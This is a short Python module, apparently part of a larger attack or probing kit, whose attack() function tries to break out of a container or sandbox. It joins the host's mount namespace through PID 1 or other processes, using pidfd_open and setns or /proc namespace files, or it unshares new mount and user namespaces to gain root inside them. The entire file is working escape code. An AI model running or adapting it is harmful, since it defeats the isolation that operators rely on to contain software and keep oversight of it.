"""Leaves its namespaces: back into those of the host, or into new ones where it would be root."""

import os

from kit import FACTS, any_works, syscall

NEWNS, NEWUSER = 0x0002_0000, 0x1000_0000


def join(pid: int) -> bool:
    handle = syscall("pidfd_open", pid, 0)
    return handle >= 0 and syscall("setns", handle, NEWNS) == 0


def join_by_file(pid: int) -> bool:
    return syscall("setns", os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY), NEWNS) == 0


def attack() -> bool:
    others = (1, FACTS["sleeper"], *FACTS["processes"])
    ways = [lambda pid=pid, way=way: way(pid) for pid in others for way in (join, join_by_file)]
    return any_works(*ways, lambda: syscall("unshare", NEWNS) == 0, lambda: syscall("unshare", NEWUSER) == 0)
